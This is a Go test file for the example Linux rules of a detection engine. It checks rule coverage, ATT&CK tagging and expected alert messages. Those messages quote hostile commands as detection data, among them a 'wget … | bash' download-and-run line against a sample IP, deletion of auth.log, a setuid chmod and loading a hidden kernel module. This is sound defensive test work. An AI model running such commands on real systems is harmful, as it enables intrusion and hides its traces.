package ruletest_test

import (
	"fmt"
	"strings"
	"testing"

	"spoor/datamodels"
	"spoor/engine"
	"spoor/engine/detect"
	"spoor/engine/rules"
	"spoor/engine/ruletest"
	"spoor/macros"
)

// Every rule of the examples has a test that passes, and finds nothing in a log in which it must not.
func TestExamples(t *testing.T) {
	l := &rules.Library{}
	if errs := l.Load("../../examples/rules"); len(errs) > 0 {
		t.Fatal(errs)
	}
	o := ruletest.Options{Detect: detect.Options{Compile: engine.Options{Models: datamodels.Builtin(), Macros: macros.Builtin()}}}
	report := ruletest.Run(t.Context(), l.All(), o)
	found, negative := map[string]int{}, map[string]int{}
	for _, r := range report.Results {
		if r.Status != ruletest.Pass && !(r.Status == ruletest.Skip && strings.Contains(r.Reasons[0], "--data-root")) {
			t.Errorf("%s: %s: %s %s", r.Rule.Name, r.Name, r.Status, strings.Join(r.Reasons, "; "))
		}
		found[r.Rule.Name] += r.Findings
		if r.Most == 0 {
			negative[r.Rule.Name]++
		}
	}
	if len(l.All()) < 12 {
		t.Errorf("%d rules", len(l.All()))
	}
	for _, r := range l.All() {
		saved := r.Format == rules.SavedSearch // its query has a token that somebody must fill
		if found[r.Name] == 0 && !saved || negative[r.Name] == 0 {
			t.Errorf("%s: %d findings, %d logs in which it must find nothing", r.Name, found[r.Name], negative[r.Name])
		}
		if len(r.Techniques()) == 0 && !saved {
			t.Errorf("%s names no technique", r.Name)
		}
		tactics, techniques := r.Attack()
		if len(tactics) == 0 && !saved {
			t.Errorf("%s has no tactic", r.Name)
		}
		for _, x := range techniques {
			if x.Name == "" {
				t.Errorf("%s: %s has no name", r.Name, x.ID)
			}
		}
	}
}

// The tests of our own rules notice when a rule finds anything or nothing.
func TestExamplesNotice(t *testing.T) {
	l := &rules.Library{}
	if errs := l.Load("../../examples/rules/linux"); len(errs) > 0 {
		t.Fatal(errs)
	}
	for _, query := range []string{"EventID=1 | head 30", "EventID=nothing"} {
		var changed []*rules.Rule
		for _, r := range l.All() {
			other := *r
			other.Query, other.Language = all(query), rules.SPL
			changed = append(changed, &other)
		}
		o := ruletest.Options{Detect: detect.Options{Compile: engine.Options{Models: datamodels.Builtin(), Macros: macros.Builtin()}}}
		failed := map[string]bool{}
		for _, r := range ruletest.Run(t.Context(), changed, o).Results {
			failed[r.Rule.Name] = failed[r.Rule.Name] || r.Status == ruletest.Fail
		}
		for _, r := range l.All() {
			if !failed[r.Name] {
				t.Errorf("%s passes with the query %s", r.Name, query)
			}
		}
	}
}

// messages of our own rules have all their fields.
func TestExamplesMessages(t *testing.T) {
	l := &rules.Library{}
	l.Load("../../examples/rules/linux")
	o := detect.Options{Compile: engine.Options{Models: datamodels.Builtin(), Macros: macros.Builtin()}}
	o.Run.Inputs = inputs(t, "../../examples/logs/linux_techniques.json")
	var got []string
	for f, err := range detect.Run(t.Context(), l.All(), o).Findings() {
		if err != nil {
			t.Fatal(err)
		}
		if len(f.Unfilled) > 0 {
			t.Errorf("%s: nothing for %s", f.Rule.Name, f.Unfilled)
		}
		got = append(got, fmt.Sprintf("%s: %s", f.Rule.ID, f.Message))
	}
	for _, want := range []string{
		"linux-account-made: root made the account svc-backup on db01",
		"linux-program-in-temporary-folder: /tmp/k was started by root on db01",
		"linux-discovery-burst: www-data ran 4 programs of discovery on web01 within five minutes: hostname, id, ip, uname",
		"linux-kernel-module-loaded: insmod /opt/.d/hid.ko on db01",
		"linux-log-removed: rm -f /var/log/auth.log by root on web01",
		"5f3c1f0e-6f0e-4f5b-9c53-6d3a8c1f2b10: The file /etc/cron.d/.sync was made on db01, and cron will run what is in it",
		"0d3f8d92-1c3b-4a52-8b0e-2f7b4e1c9a11: root on db01 made a program run as its owner: chmod 4755 /usr/local/bin/s",
		"linux-download-to-shell: root on db01 ran what was fetched by bash -c \"wget -qO- http://203.0.113.9/k | bash\"",
	} {
		if !strings.Contains("\n"+strings.Join(got, "\n")+"\n", "\n"+want+"\n") {
			t.Errorf("no finding says %q:\n%s", want, strings.Join(got, "\n"))
		}
	}
}
